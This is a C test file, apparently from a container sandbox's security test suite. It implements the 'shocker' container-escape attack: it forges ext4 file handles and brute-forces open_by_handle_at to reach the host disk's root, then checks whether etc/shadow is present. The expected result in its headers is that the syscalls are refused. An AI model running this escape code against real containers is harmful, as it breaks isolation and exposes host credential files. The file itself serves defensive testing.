// ccx-attack: the "shocker" attack: forge ext4 file handles for the host disk's root, open them
// ccx-category: filesystem
// ccx-status: ok
// ccx-event: syscall_refused ^syscall=name_to_handle_at
// ccx-event: syscall_refused ^syscall=open_by_handle_at .* calls=64$
// ccx-no-event: syscall_refused_suppressed
// ccx-steps: 2
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* An ext4 handle is (inode, generation); type 1 is FILEID_INO32_GEN. */
struct ext4_handle {
    struct file_handle head;
    uint32_t ino;
    uint32_t gen;
};

int main(void)
{
    struct ext4_handle h = {.head.handle_bytes = 8};
    int mount_id;
    int opened = -1;
    int last = 0;

    /* /usr is a bind of the host's disk: any descriptor on it names that file system, and
     * a handle to inode 2 opens the disk's root, whatever the bind showed us. */
    int usr = open("/usr", O_RDONLY | O_DIRECTORY);

    if (name_to_handle_at(usr, "bin", &h.head, &mount_id, 0) == 0)
        printf("ESCAPED: name_to_handle_at /usr/bin: inode %u gen %u\n", h.ino, h.gen);
    else
        printf("BLOCKED: name_to_handle_at /usr/bin: %s\n", strerror(errno));

    /* Brute force: inode 2 (the root) with a few generations, then low inodes. Every call
     * beyond the first 16 is only counted, which keeps the run short and the events few. */
    for (uint32_t i = 0; i < 64 && opened < 0; i++) {
        h.head.handle_bytes = 8;
        h.head.handle_type = 1;
        h.ino = i < 32 ? 2 : i;
        h.gen = i < 32 ? i : 0;
        opened = open_by_handle_at(usr, &h.head, O_RDONLY | O_DIRECTORY);
        last = errno;
    }
    if (opened >= 0)
        printf("ESCAPED: open_by_handle_at opened inode %u of the host disk (shadow %s)\n",
               h.ino, faccessat(opened, "etc/shadow", F_OK, 0) == 0 ? "there" : "absent");
    else
        printf("BLOCKED: open_by_handle_at x64 on the host disk: %s\n", strerror(last));
    return 0;
}
